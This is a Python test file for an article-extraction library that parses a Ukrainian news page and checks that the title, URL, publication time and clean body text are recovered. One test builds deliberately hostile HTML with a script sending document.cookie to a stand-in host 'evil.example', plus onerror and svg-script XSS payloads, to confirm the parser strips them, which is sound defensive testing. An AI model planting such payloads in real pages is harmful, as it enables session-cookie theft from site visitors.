"""HTML pages: main text without nav, ads, comments or scripts; metadata from meta tags and JSON-LD."""

from __future__ import annotations

import datetime as dt

from tests.helpers import seed_as_html

from storyline.ingest import read_path
from storyline.model import Article


def test_real_looking_page(tmp_path, seed_unn):
    page = tmp_path / "page.html"
    page.write_text(seed_as_html(seed_unn), encoding="utf-8")
    (a,) = list(read_path(page))
    assert isinstance(a, Article), a
    assert a.title.startswith("Блінкен поговорив телефоном з Лавровим")
    assert a.outlet == "UNN" and a.outlet_source == "meta"
    assert a.url == "https://www.unn.com.ua/uk/news/1955555-blinken-pogovoriv-telefonom-z-lavrovim"
    # Explicit publication time from the page wins over the dateline: 19:45 Kyiv time is 17:45 UTC.
    assert a.published.value == dt.datetime(2022, 2, 1, 17, 45)
    assert (a.published.precision, a.published.source) == ("second", "meta")
    text = a.body_text
    assert "Коли ми отримали американську реакцію" in text
    for junk in (
        "Головна",
        "Купуйте квартири",
        "Ніяких переговорів з агресором",
        "Ганьба",
        "Injected ad",
        "Усі права захищені",
        "Поділитися",
        "dataLayer",
    ):
        assert junk not in text, junk


def test_page_without_article_is_rejected_with_reason(tmp_path):
    page = tmp_path / "nav.html"
    page.write_text("<html><body><nav><a href='/'>Головна</a></nav></body></html>", encoding="utf-8")
    (err,) = list(read_path(page))
    assert not isinstance(err, Article)
    assert err.source == str(page) and "no article text" in err.reason


def test_hostile_html_does_not_leak_script_or_break(tmp_path, seed_unn):
    hostile = seed_as_html(seed_unn).replace(
        "<main>",
        "<main><script>fetch('https://evil.example/?c='+document.cookie)</script>"
        "<img src=x onerror=alert(1)><svg><script>alert(2)</script></svg>" + "<div>" * 5000,
    )
    page = tmp_path / "hostile.html"
    page.write_text(hostile, encoding="utf-8")
    (a,) = list(read_path(page))
    assert isinstance(a, Article)
    assert "evil.example" not in a.body_text and "alert(" not in a.body_text
